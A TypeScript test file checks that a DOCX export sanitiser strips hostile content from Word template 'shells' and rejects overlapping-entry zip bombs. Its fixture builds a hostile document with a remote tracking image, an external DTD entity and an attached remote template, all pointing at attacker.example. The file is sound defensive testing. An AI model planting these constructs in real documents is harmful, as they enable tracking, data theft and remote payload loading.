/**
 * A Word shell cannot make the exported DOCX reach out: external relationships other than
 * hyperlinks (a remote picture, an attached template) are removed with their references, DTDs
 * are dropped, UTF-16 parts are read, and overlapping zip entries are refused at once.
 */
import { Document, ExternalHyperlink, Packer, Paragraph, TextRun } from 'docx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { applyShellTemplate } from '../../src/formats/docx/shell';
import { shellPlaceholderValues } from '../../src/templates/shellValues';
import { meta } from '../builders/documents';
import { planView } from '../builders/views';
import { ServiceError } from '../../src/errors';
import { statusOf } from '../../src/http/errors';

const ATTACKER = 'http://attacker.example';
const IMAGE_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image';
const TEMPLATE_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';

async function hostileShell(options: { utf16?: boolean } = {}): Promise<Uint8Array> {
  const document = new Document({
    sections: [
      {
        children: [
          new Paragraph("Plan: '{OPENCDMP.PLAN.TITLE}'"),
          new Paragraph({
            children: [
              new ExternalHyperlink({ link: 'https://example.org/policy', children: [new TextRun('our policy')] }),
            ],
          }),
          new Paragraph("'{OPENCDMP.BODY}'"),
        ],
      },
    ],
  });
  const files = unzipSync(new Uint8Array(await Packer.toBuffer(document)));
  const rels = strFromU8(files['word/_rels/document.xml.rels']).replace(
    '</Relationships>',
    `<Relationship Id="rIdEvil" Type="${IMAGE_TYPE}" Target="${ATTACKER}/track.png" TargetMode="External"/></Relationships>`,
  );
  files['word/_rels/document.xml.rels'] = strToU8(rels);
  let documentXml = strFromU8(files['word/document.xml'])
    .replace(
      '<w:body>',
      `<w:body><w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdEvil"/></v:shape></w:pict></w:r></w:p>`,
    )
    .replace(
      /^(<\?xml[^>]*\?>)/,
      '$1<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://attacker.example/dtd"> %remote;]>',
    );
  if (options.utf16) documentXml = documentXml.replace(/encoding="UTF-8"/i, 'encoding="UTF-16"');
  files['word/document.xml'] = options.utf16
    ? new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(documentXml, 'utf16le')]))
    : strToU8(documentXml);
  files['word/_rels/settings.xml.rels'] = strToU8(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" Type="${TEMPLATE_TYPE}" Target="${ATTACKER}/evil.dotm" TargetMode="External"/></Relationships>`,
  );
  files['word/settings.xml'] = strToU8(
    strFromU8(files['word/settings.xml']).replace(/(<w:settings\b[^>]*>)/, '$1<w:attachedTemplate r:id="rIdTpl"/>'),
  );
  return zipSync(files);
}

const fill = (template: Uint8Array) =>
  applyShellTemplate({
    template,
    fieldCode: 'plan-template',
    values: shellPlaceholderValues(planView(), {}),
    body: [],
    meta: meta(),
  });

function partsOf(bytes: Uint8Array): Record<string, string> {
  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([path, data]) => [path, strFromU8(data)]));
}

describe('Word shells are sanitised', () => {
  it.each([false, true])(
    'removes every external relationship but hyperlinks, and drops the DTD (UTF-16 document: %s)',
    async (utf16) => {
      const { bytes } = await fill(await hostileShell({ utf16 }));
      const parts = partsOf(bytes);
      const all = Object.values(parts).join('\n');
      expect(all).not.toContain(ATTACKER);
      expect(all).not.toMatch(/<!DOCTYPE/i);
      expect(parts['word/document.xml']).not.toContain('rIdEvil');
      expect(parts['word/settings.xml']).not.toContain('attachedTemplate');
      // The hyperlink, which a reader chooses to follow, stays.
      expect(parts['word/_rels/document.xml.rels']).toContain('https://example.org/policy');
      expect(parts['word/document.xml']).toContain('Plan: Ocean Survey');
    },
  );

  it('refuses a package whose entries overlap (a zip bomb) at once', async () => {
    const files = unzipSync(await hostileShell());
    const zip = zipSync(files, { level: 0 });
    // Point a second central-directory entry at the first entry's data: declared sizes now add up to more than the file.
    const view = Buffer.from(zip);
    const centralEntries: number[] = [];
    for (let i = view.length - 22; i >= 0; i--) if (view.readUInt32LE(i) === 0x02014b50) centralEntries.push(i);
    centralEntries.sort((a, b) => a - b);
    const biggest = centralEntries.reduce((best, at) =>
      view.readUInt32LE(at + 20) > view.readUInt32LE(best + 20) ? at : best,
    );
    for (const at of centralEntries) {
      if (at === biggest) continue;
      // Same local header offset, same sizes: every entry now claims the biggest entry's data.
      view.writeUInt32LE(view.readUInt32LE(biggest + 42), at + 42);
      view.writeUInt32LE(view.readUInt32LE(biggest + 20), at + 20);
      view.writeUInt32LE(view.readUInt32LE(biggest + 24), at + 24);
    }
    const error = await fill(new Uint8Array(view)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ServiceError);
    expect(statusOf(error)).toBe(400);
    expect((error as ServiceError).message).toMatch(/entries overlap/);
  });
});
